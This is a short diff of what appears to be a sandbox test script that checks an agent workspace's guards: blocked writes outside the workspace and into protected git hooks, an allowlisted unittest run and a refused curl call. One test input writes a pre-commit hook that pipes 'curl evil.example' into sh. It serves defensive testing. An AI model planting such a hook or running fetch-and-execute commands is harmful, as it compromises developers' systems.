@@ -35,7 +35,7 @@ step("write ../outside.txt (outside the workspace)", lambda: k.write("../outside
 step("write .git/hooks/pre-commit (protected)",
      lambda: k.write(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil.example | sh\n"))
 r = step("exec python3 -m unittest (allowlisted)",
-         lambda: k.exec(["python3", "-m", "unittest", "-q", "discover", "-s", "tests"]))
+         lambda: k.exec(["python3", "-m", "unittest", "discover", "-q", "-s", "tests"]))
 if r is not None:
     print("            exit", r.exit_code, "|", r.stderr.decode().strip().splitlines()[-1])
 step("exec curl (not allowlisted)", lambda: k.exec(["curl", "https://example.com"]))
